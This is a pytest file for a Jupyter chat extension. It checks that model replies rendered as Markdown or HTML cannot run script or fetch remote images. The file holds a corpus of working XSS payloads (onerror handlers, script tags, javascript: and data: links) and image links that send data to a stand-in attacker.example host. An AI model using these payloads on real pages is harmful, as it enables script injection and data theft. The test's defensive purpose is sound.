"""Hostile replies: nothing a model writes becomes live markup or fetches a remote image.

A corpus in the spirit of the OWASP filter-evasion cheat sheet goes through every
surface that shows model text, whole and chunk by chunk (every split point of the
short ones). Each published output is rendered the way frontends render it —
Markdown by markdown-it-py (VS Code's renderer) and by mistune (nbconvert's),
both with raw HTML passed through as a trusted JupyterLab output would — and the
HTML is parsed with a real HTML parser. No element outside the formatting
allowlist, no event handler or style attribute, no link to a script scheme, no
image source; and the words of the payload are still on the page.
(JupyterLab's own renderer, marked, is checked in a real browser in tests/e2e.)
"""

from __future__ import annotations

import html
import re
import warnings
from collections.abc import Iterable
from typing import Any

import mistune
import pytest
from bs4 import BeautifulSoup, MarkupResemblesLocatorWarning
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nbchat.render import LiveMarkdown, markdown_bundle
from nbchat.sanitize import ALLOWED_TAGS, safe_html, safe_markdown, safe_url

from .test_render import Recorder

PWN = "window.pwned=1"
CORPUS = [
    f'<img src=x onerror="{PWN}">',
    f"<IMG SRC=x OnError={PWN}>",
    f"<img/src=x/onerror={PWN}>",
    f"<img src=x onerror={PWN}",  # unclosed
    f"<script>{PWN}</script>",
    f"<ScRiPt>{PWN}</sCrIpT>",
    f"<<SCRIPT>{PWN}//<</SCRIPT>",
    '<SCRIPT SRC="https://attacker.example/xss.js"></SCRIPT>',
    f'<a href="javascript:{PWN}">click</a>',
    f'<a onmouseover="{PWN}">hover me</a>',
    f'<a href="https://ok.example" onclick="{PWN}">looks fine</a>',
    f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s>',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f'<details open ontoggle="{PWN}">summary</details>',
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<form action="javascript:{PWN}"><input type=submit value=go></form>',
    f"<input autofocus onfocus={PWN}>",
    '<base href="https://attacker.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    f'<link rel=stylesheet href="javascript:{PWN}">',
    f"<style>body{{background:url(javascript:{PWN})}}</style>",
    f'<div style="width:expression({PWN})">styled</div>',
    f'<video><source onerror="{PWN}"></video>',
    f"<body onload={PWN}>",
    f'<IMG SRC="jav&#x09;ascript:{PWN}">',
    f"<IMG SRC=`javascript:{PWN}`>",
    f'<IMG """><SCRIPT>{PWN}</SCRIPT>">',
    f"<!-- <img src=x onerror={PWN}> -->",
    f"<![CDATA[<img src=x onerror={PWN}>]]>",
    f"<?php <img src=x onerror={PWN}> ?>",
    f"[click](javascript:{PWN})",
    f"[click](JaVaScRiPt:{PWN})",
    f"[click](javascript&colon;{PWN})",
    f"[click](&#106;avascript:{PWN})",
    f"[click](java\\script:{PWN})",
    f"[click](<javascript:{PWN}>)",
    f'[click](javascript:{PWN} "title")',
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    f"[click][r]\n\n[r]: javascript:{PWN}",
    f"<javascript:{PWN}>",
    "![chart](https://attacker.example/collect?d=secret)",
    "![chart](//attacker.example/collect?d=secret)",
    f"![x](javascript:{PWN})",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![x][i]\n\n[i]: https://attacker.example/i.png",
    f"[![x](https://attacker.example/a.png)](javascript:{PWN})",
    f"`code` <img src=x onerror={PWN}> `more`",
    f"`<img src=x onerror={PWN}>` and ``[a](javascript:{PWN})``",
    f"```\n<img src=x onerror={PWN}>\n```~\n<img src=x onerror={PWN}>\n```",
    f"<b>\n```\n<img src=x onerror={PWN}>\n```",
    f"<details>\n```\n<img src=x onerror={PWN}>\n```",
    f"- item\n  ```\n  <img src=x onerror={PWN}>\n  ```\n- <img src=x onerror={PWN}>",
    f"> quoted <img src=x onerror={PWN}>\n> ```\n> <script>{PWN}</script>\n> ```",
    f"$<img src=x onerror={PWN}>$ and $$<svg onload={PWN}>$$",
    f"\\(<img src=x onerror={PWN}>\\) and $[a](javascript:{PWN})$",
    f"| a | b |\n|---|---|\n| <img src=x onerror={PWN}> | [x](javascript:{PWN}) |",
    "Text <b>bold</b> <i>it</i> H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd><br> "
    f"<em onclick={PWN}>e</em>",
    f"&lt;img src=x onerror={PWN}&gt; is already text",
    f"\\<img src=x onerror={PWN}>",
    f"```html\n<script>{PWN}</script>\n",  # a fence still open (streaming)
    f"~~~\n<script>{PWN}</script>\n~~~\n<script>{PWN}</script>",
    f"````\n```\n<img src=x onerror={PWN}>\n````",
]

#: What a reply may become in the page (Markdown's own elements and the formatting allowlist).
SAFE_ELEMENTS = {
    *ALLOWED_TAGS,
    *("p", "code", "pre", "a", "em", "strong", "del", "s", "blockquote", "hr", "span", "div"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
#: nbchat's own markup around model text: a paragraph head, a comparison table's cells.
OUR_STYLES = {
    ("p", "margin:0"),
    ("td", "vertical-align:top;text-align:left"),
    ("div", "font-size:0.85em;opacity:0.7;font-family:var(--jp-code-font-family,monospace)"),
}
RENDERERS = {
    "markdown-it": MarkdownIt("commonmark", {"html": True}).enable("table").render,
    "mistune": mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"]),
}


def _soup(page: str) -> BeautifulSoup:
    with warnings.catch_warnings():  # a page that is just a URL is still a page here
        warnings.simplefilter("ignore", MarkupResemblesLocatorWarning)
        return BeautifulSoup(page, "html.parser")


def _problems(page: str) -> list[str]:
    """Every executable or fetching construct in an HTML page, as a readable list."""
    found = []
    for tag in _soup(page).find_all(True):
        if tag.name not in SAFE_ELEMENTS:
            found.append(f"<{tag.name}> element")
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            ours = name == "style" and (tag.name, value) in OUR_STYLES
            if (name.startswith("on") or name in ("style", "src", "srcset", "action")) and not ours:
                found.append(f"{name}= on <{tag.name}>")
            if name == "href" and not safe_url(value):
                found.append(f"href={value!r}")
    return found


def _words(text: str) -> set[str]:
    """The words a reader must still see (a link reference definition is never shown)."""
    text = re.sub(r"(?m)^\[\w+\]: https://\S+$|^```\w+", "", text)
    words = set(re.findall(r"[A-Za-z]{4,}", html.unescape(text).lower()))
    return words - set(ALLOWED_TAGS) - {"details", "summary"}


def _visible(page: str) -> str:
    return _soup(page).get_text(" ").lower()


def _check(payload: str, outputs: Iterable[dict[str, Any]], *, whole: bool) -> None:
    pages = []
    for data in outputs:
        if "text/html" in data:
            pages.append(("html", data["text/html"]))
        if "text/markdown" in data:
            pages += [(name, render(data["text/markdown"])) for name, render in RENDERERS.items()]
    assert pages, "nothing was published"
    for name, page in pages:
        problems = _problems(page)
        assert not problems, f"{payload!r} through {name}: {problems}\n{page}"
    if whole:  # the final output still shows what the model said
        for name, page in pages:
            missing = _words(payload) - set(re.findall(r"[a-z]{4,}", _visible(page)))
            assert not missing, f"{payload!r} through {name} lost words {missing}:\n{page}"


@pytest.mark.parametrize("payload", CORPUS)
def test_a_hostile_reply_shown_whole_is_inert_and_readable(payload: str) -> None:
    _check(payload, [markdown_bundle(payload)], whole=True)


@pytest.mark.parametrize("payload", CORPUS)
def test_a_hostile_reply_streamed_is_inert_at_every_split_point(ip, payload: str) -> None:
    recorder = Recorder()
    ip.display_pub, saved = recorder, ip.display_pub
    try:
        for cut in range(1, len(payload)):
            for max_open in (20, 2000):  # 20: long paragraphs are cut into HTML heads
                view = LiveMarkdown(interval=0, max_open=max_open)
                view.feed(payload[:cut])
                view.feed(payload[cut:])
                view.flush()
                view.finish(payload)
    finally:
        ip.display_pub = saved
    published = [m["data"] for m in recorder.messages if m["kind"] != "clear_output"]
    _check(payload, published, whole=False)


def test_a_late_tag_in_a_long_paragraph_is_inert_in_the_html_head(ip) -> None:
    words = " ".join(["word"] * 400)
    payload = f"{words} <img src=x onerror={PWN}> and [x](javascript:{PWN}) {words} end"
    head = safe_html(payload[: len(words) + 80])
    assert "&lt;img" in head and not _problems(head)
    recorder = Recorder()
    ip.display_pub, saved = recorder, ip.display_pub
    try:
        view = LiveMarkdown(interval=0)
        for piece in re.findall(r"\S+\s*", payload):
            view.feed(piece)
            view.flush()  # past the open-block rate limit, as a slow stream would
        view.finish(payload)
    finally:
        ip.display_pub = saved
    published = [m["data"] for m in recorder.messages if m["kind"] != "clear_output"]
    heads = [d["text/html"] for d in published if "text/html" in d]
    assert any("onerror" in h for h in heads), "the tag fell inside a head: shown as text"
    _check(payload, published, whole=False)


def test_harmless_markdown_is_unchanged() -> None:
    """What models really write passes byte for byte: the rewrite only touches hostile text."""
    text = (
        "# Title\n\nSome **bold**, *it*, `x*y`, a [link](https://e.org/a_(b)) and "
        "<https://e.org>, costs $5 and $10, math $a_1 + b$ and $$\\sum_i x_i$$ and \\(y\\).\n\n"
        "| n | square |\n|---|---|\n| 2 | 4 |\n\n"
        "- one\n- two with `code`\n\n1. first\n2. second\n\n> quoted\n\n"
        "```python\nif a < b and c > d:\n    print('<tag>')\n```\n\nH<sub>2</sub>O<br>\n"
    )
    assert safe_markdown(text) == text


def test_remote_images_load_only_when_allowed() -> None:
    image = "![chart](https://charts.example/c.png)"
    blocked = RENDERERS["markdown-it"](safe_markdown(image))
    assert "<img" not in blocked
    assert "image “chart” from charts.example not loaded" in _visible(blocked)
    assert "https://charts.example/c.png" in _visible(blocked)  # the URL stays readable
    allowed = RENDERERS["markdown-it"](safe_markdown(image, remote_images=True))
    assert '<img src="https://charts.example/c.png" alt="chart"' in allowed
    # even then, only http(s): scripts and data stay out
    for url in (f"javascript:{PWN}", "data:image/svg+xml;base64,PHN2Zz4="):
        shown = safe_markdown(f"![x]({url})", remote_images=True)
        assert "<img" not in RENDERERS["markdown-it"](shown)


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://e.org", True),
        ("mailto:a@e.org", True),
        ("#section", True),
        ("notes.md", True),
        ("javascript:x", False),
        ("JAVASCRIPT:x", False),
        (" javascript:x", False),
        ("java\tscript:x", False),
        ("javascript&colon;x", False),
        ("&#x6A;avascript:x", False),
        ("java\\script:x", False),
        ("vbscript:x", False),
        ("data:text/html,x", False),
        ("file:///etc/passwd", False),
    ],
)
def test_link_targets_are_read_as_a_browser_reads_them(url: str, ok: bool) -> None:
    assert safe_url(url) is ok


def test_every_surface_publishes_safe_markdown(ip, tmp_path) -> None:
    """A hostile reply through a cell, --no-stream, the JSON view, a comparison, %chat history,
    %chat log, the saved-notebook output and %chat export: every Markdown output is inert."""
    from IPython.utils.capture import capture_output

    payload = (
        f"Hi <img src=x onerror={PWN}> [c](javascript:{PWN}) "
        "![leak](https://attacker.example/c?d=1)"
    )
    cells = [
        f"%%chat -m gpt-4o-mini@reply=verbatim\n{payload}",
        f"%%chat --no-stream -m gpt-4o-mini@reply=verbatim\n{payload}",
        f"%%chat --json -m gpt-4o-mini@reply=json -c json\n{payload}",
        f"%%chat -m gpt-4o-mini@reply=verbatim,gpt-4o@reply=verbatim\n{payload}",
        "%chat history",
        "%chat log",
        f"%chat export {tmp_path / 'chat.md'}",
    ]
    outputs = []
    for cell in cells:
        with capture_output() as captured:
            result = ip.run_cell(cell)
        assert result.success, cell
        outputs += [o.data for o in captured.outputs]
    assert sum("text/markdown" in d for d in outputs) >= 5
    assert any("<table>" in d.get("text/markdown", "") for d in outputs)  # the comparison
    assert any("application/json" in d for d in outputs)  # the JSON view
    _check(payload, [d for d in outputs if "text/markdown" in d], whole=False)
    exported = (tmp_path / "chat.md").read_text()
    assert "onerror" in exported  # the words are there ...
    for name, render in RENDERERS.items():  # ... but a Markdown viewer runs nothing
        assert not _problems(render(exported)), name


def test_the_demos_html_copy_is_inert() -> None:
    """nbconvert (the demo's HTML copy, `jupyter nbconvert --to html`) renders the saved
    Markdown with its own mistune renderer: nothing of the corpus comes out live."""
    import nbformat
    from nbconvert import HTMLExporter

    reply = "\n\n".join(CORPUS)
    output = nbformat.v4.new_output("display_data", data=markdown_bundle(reply))
    cell = nbformat.v4.new_code_cell("%%chat\nsummarise this page", outputs=[output])
    page, _ = HTMLExporter().from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
    shown = BeautifulSoup(page, "html.parser").select('[data-mime-type="text/markdown"]')
    assert len(shown) == 1
    inner = shown[0].decode_contents()
    assert not _problems(inner), _problems(inner)
    assert "onerror" in _visible(inner) and "attacker.example" in _visible(inner)


# Pieces a fuzzer strings together: Markdown and HTML syntax an attacker can combine.
_PIECES = [
    "<", ">", "<img src=x onerror=window.pwned=1>", "<b>", "</b>", "<details>", "<svg onload=1>",
    "`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "* ",
    "[", "]", "(", ")", "](", "]: ", "![", "!", "javascript:", "data:text/html,x",
    "https://attacker.example/i.png", "$", "$$", "\\(", "\\)", "\\", "&colon;", "&#106;",
    "&lt;", "<!--", "-->", "<![CDATA[", "|", "---", "# ", "word", " ", "\"", "'", "=",
    "<a href=javascript:x>", "</a>", "<https://ok.example>", "<javascript:x>", "<script>",
]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_PIECES), max_size=40))
def test_no_mix_of_markdown_and_html_pieces_gets_through(pieces: list[str]) -> None:
    text = "".join(pieces)
    for name, render in RENDERERS.items():
        page = render(safe_markdown(text))
        assert not _problems(page), (name, text, page)
    assert not _problems(safe_html(text))
